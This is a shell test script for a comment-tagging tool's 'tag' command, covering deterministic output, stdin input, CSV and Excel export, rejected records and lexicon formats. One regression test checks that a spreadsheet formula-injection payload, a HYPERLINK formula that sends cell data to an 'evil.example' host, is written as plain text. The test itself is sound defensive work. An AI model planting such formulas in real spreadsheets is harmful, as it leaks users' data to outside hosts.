#!/usr/bin/env bash
# returns tag: one object per comment with its themes, byte-identical across
# runs and thread counts; JSON Lines on stdin with other fields passed
# through; CSV output; bad records rejected (exit 1) with a rejects file; an
# invalid lexicon refused; CSV read directly as ingest would.
# usage: tag_test.sh PATH/TO/returns SOURCE_DIR
source "$(dirname "$0")/lib.sh" "$@"

ingest_corpus

# tag: the bundled corpus, twice, byte-identical; one object per comment with themes and the lexicon.
"$returns" tag "$corpus" >"$work/t1.jsonl" 2>/dev/null
check "tag exit 0" $?
"$returns" tag "$corpus" >"$work/t2.jsonl" 2>/dev/null
cmp -s "$work/t1.jsonl" "$work/t2.jsonl"; check "tag is byte-identical across runs" $?
[ "$(wc -l <"$work/t1.jsonl")" -eq "$(wc -l <"$work/a.jsonl")" ]; check "tag gives one record per ingested comment" $?
python3 -c "
import json
rows = [json.loads(l) for l in open('$work/t1.jsonl')]
r = next(r for r in rows if r['id'] == 'q2/maidstone-west-collaboration/west-borough#4')
assert r['themes'] == ['shared_resources'] and r['pending'] == ['shared_resources'], r
assert r['lexicon'] == {'name': 'kent-codebook', 'version': '2.6'}
assert list(r)[0] == 'id' and r['comment_id'] == r['id']
for m in (m for r in rows for m in r['matches']):
    assert set(m) == {'theme', 'rule', 'start', 'end', 'text', 'pending'}
" ; check "tag output: themes, pending, matches, lexicon" $?

"$returns" tag "$corpus" --jobs 2 >"$work/t-j2.jsonl" 2>/dev/null
cmp -s "$work/t1.jsonl" "$work/t-j2.jsonl"; check "tag --jobs 2 is byte-identical to one thread" $?
"$returns" tag "$work/t1.jsonl" --jobs 0 --format csv >"$work/t-j0.csv" 2>/dev/null
"$returns" tag "$work/t1.jsonl" --jobs 1 --format csv >"$work/t-j1.csv" 2>/dev/null
cmp -s "$work/t-j0.csv" "$work/t-j1.csv" && [ "$(wc -l <"$work/t-j1.csv")" -ge 446 ]
check "streamed JSON Lines: --jobs 0 (all cores) equals one thread" $?

# tag: JSON Lines on stdin, other fields passed through in order.
printf '%s\n' '{"id":"r1","text":"Joint moderation of writing","school":"Hoath"}' '{"text":"Learning walks are planned for June"}' \
  | "$returns" tag >"$work/s.jsonl" 2>/dev/null
check "tag from stdin exit 0" $?
python3 -c "
import json
a, b = [json.loads(l) for l in open('$work/s.jsonl')]
assert list(a)[:3] == ['id', 'text', 'school'] and a['school'] == 'Hoath'
assert a['themes'] == ['literacy', 'moderation'] and a['pending'] == []
assert b['id'] == '<stdin>:2' and b['themes'] == ['learning_walks'] and b['pending'] == ['learning_walks']
" ; check "tag from stdin passes fields through and names records without id" $?

printf '%s\n' '{"id":"r1","text":"Joint moderation"}' | "$returns" tag --format csv >"$work/t.csv" 2>/dev/null
head -1 "$work/t.csv" | grep -q "^id,question,themes,pending,matches,text" && grep -q '^"r1",,"moderation","","moderation@6-16","Joint moderation"' "$work/t.csv"
check "tag --format csv" $?

# Excel: a row per record, read back with openpyxl against the JSON Lines of the same run.
"$returns" tag "$corpus" --format xlsx --jobs 2 >"$work/t.xlsx" 2>/dev/null
"$office_python" - "$work/t.xlsx" "$work/t1.jsonl" <<'PY'
import sys, json, openpyxl
ws = openpyxl.load_workbook(sys.argv[1])["Tagged comments"]
head = [c.value for c in ws[1]]
assert head == ["Id", "Round", "District", "Collaborative", "Question", "Position", "Heading", "Comment", "Themes",
                "Pending", "Matches"], head
assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:K%d" % ws.max_row
want = [json.loads(l) for l in open(sys.argv[2])]
rows = list(ws.iter_rows(min_row=2, values_only=True))
assert len(rows) == len(want), (len(rows), len(want))
for r, w in zip(rows, want):
    assert r[0] == w["id"] and r[7] == w["text"] and isinstance(r[4], int) and r[4] == w["question"], r
    assert isinstance(r[5], int) and r[5] == w["position"]
    assert (r[8] or "") == "; ".join(w["themes"]) and (r[9] or "") == "; ".join(w["pending"])
PY
check "tag --format xlsx: a row per record in input order, numbers as numbers, themes and pending as in jsonl" $?
"$returns" tag "$data/hostile/records.jsonl" --lexicon "$data/hostile/lexicon.yaml" --format xlsx >"$work/hostile.xlsx" 2>/dev/null
"$office_python" - "$work/hostile.xlsx" <<'PY'
import sys, openpyxl
ws = openpyxl.load_workbook(sys.argv[1]).active
texts = set()
for row in ws.iter_rows(min_row=2):
    for c in row:
        assert c.data_type != "f", (c.coordinate, c.value)
        if isinstance(c.value, str): texts.add(c.value)
assert '=HYPERLINK("http://evil.example/?"&A1,"moderation report")' in texts and "-Thanet" in texts and "@Group" in texts
PY
check "regression: tag --format xlsx: text starting with = - @ is text, never a formula" $?

# Bad records are rejected, not fatal: the rest is tagged, the rejects file says why, exit 1.
printf '%s\n' '{"id":"r1","text":"Joint moderation"}' 'not json' '{"id":"r3","words":"no text"}' >"$work/bad.jsonl"
"$returns" tag "$work/bad.jsonl" --rejects "$work/bad.rejects" >"$work/out" 2>"$work/err"
[ $? -eq 1 ]; check "tag: rejected records exit 1" $?
[ "$(wc -l <"$work/out")" -eq 1 ] && grep -q '"id":"r1"' "$work/out"; check "tag: the good record is still tagged" $?
grep -q "^tag: read 3, taken 1, rejected 2 (missing required field: 1, not a JSON object: 1)$" "$work/err"
ok=$?; check "tag: the totals line ($(tail -1 "$work/err"))" $ok
python3 -c "
import json
r = [json.loads(l) for l in open('$work/bad.rejects')]
assert [(x['line'], x['reason'], x['raw']) for x in r] == [(2, 'not a JSON object', 'not json'), (3, 'missing required field', '{\"id\":\"r3\",\"words\":\"no text\"}')], r
assert r[0]['source'].endswith('bad.jsonl')
"; check "tag: the rejects file names source, line, reason and raw record" $?
printf 'name: x\nversion: 1\nthemes:\n  - id: a\n    rules:\n      - pattern: "Y[0-9"\n' >"$work/bad.yaml"
expect_error "tag: invalid RE2 in the lexicon" 2 "bad.yaml:6: error: invalid RE2 pattern 'Y[0-9'" \
  "$returns" tag --lexicon "$work/bad.yaml" "$work/s.jsonl"

# --out: the same bytes as stdout, the format from the file's ending unless --format says; whole or nothing.
"$returns" tag "$corpus" --out "$work/out.jsonl" 2>/dev/null && cmp -s "$work/t1.jsonl" "$work/out.jsonl"
check "tag --out FILE.jsonl writes what stdout gets" $?
"$returns" tag "$work/t1.jsonl" --out "$work/out.CSV" 2>/dev/null && cmp -s "$work/t-j1.csv" "$work/out.CSV"
check "tag --out FILE.CSV writes the CSV --format csv gives" $?
"$returns" tag "$corpus" --out "$work/out.xlsx" 2>/dev/null && [ "$(head -c 2 "$work/out.xlsx")" = "PK" ]
check "tag --out FILE.xlsx writes an Excel workbook" $?
"$returns" tag "$corpus" --out "$work/forced.csv" --format jsonl 2>/dev/null && head -c 1 "$work/forced.csv" | grep -q '{'
check "tag: --format wins over --out's ending" $?
ls "$work" | grep -q partial; [ $? -eq 1 ]; check "tag --out leaves no partial file behind" $?
echo keep >"$work/kept.jsonl"
"$returns" tag "$work/bad.jsonl" --strict --out "$work/kept.jsonl" >/dev/null 2>&1
[ $? -eq 1 ] && [ "$(cat "$work/kept.jsonl")" = keep ] && ! ls "$work" | grep -q partial
check "tag --strict --out: a rejected record leaves the file as it was" $?
expect_error "tag --out a folder: refused before any work" 2 "$work: error: is a folder: name a file to write" \
  "$returns" tag "$corpus" --out "$work"
expect_error "tag --out into a folder that does not exist" 2 "t.jsonl: error: cannot write" \
  "$returns" tag "$corpus" --out "$work/no/such/dir/t.jsonl"

# CSV read directly gives what ingest then tag gives.
same="$data/intake/same"
(cd "$same" && "$returns" ingest returns-long.csv 2>/dev/null) | "$returns" tag 2>/dev/null >"$work/same-returns-long.jsonl"
"$returns" tag "$same/returns-long.csv" 2>/dev/null | python3 -c "
import json, sys
a = [{k: v for k, v in json.loads(l).items() if k not in ('source', 'line', 'return_line')} for l in sys.stdin]
b = [{k: v for k, v in json.loads(l).items() if k not in ('source', 'line', 'return_line')} for l in open('$work/same-returns-long.jsonl')]
assert a == b
"; check "tag reads CSV directly as ingest would" $?

# A quanteda dictionary (YAML) tags the corpus as its equivalent in our format.
"$returns" tag "$corpus" --lexicon "$data/lexicons/quanteda-sample.yml" >"$work/quanteda.jsonl" 2>"$work/quanteda.err"
ok=$?; check "tag with a quanteda dictionary exits 0 ($(tail -2 "$work/quanteda.err"))" $ok
grep -qF "quanteda-sample.yml:19: warning: entry 'colo?r' uses quanteda's '?'" "$work/quanteda.err"
check "the quanteda entries it cannot read are reported by line" $?
"$returns" tag "$corpus" --lexicon "$data/lexicons/quanteda-equivalent.yaml" >"$work/equivalent.jsonl" 2>/dev/null
python3 -c "
import json, sys
a = [json.loads(l) for l in open('$work/quanteda.jsonl')]
b = [json.loads(l) for l in open('$work/equivalent.jsonl')]
assert len(a) == len(b) > 50
pick = lambda r: (r['id'], r['themes'], r['pending'], r['matches'])
assert [pick(r) for r in a] == [pick(r) for r in b]
assert sum(bool(r['themes']) for r in a) > 20
"; check "the quanteda dictionary tags as the equivalent lexicon" $?

finish tag
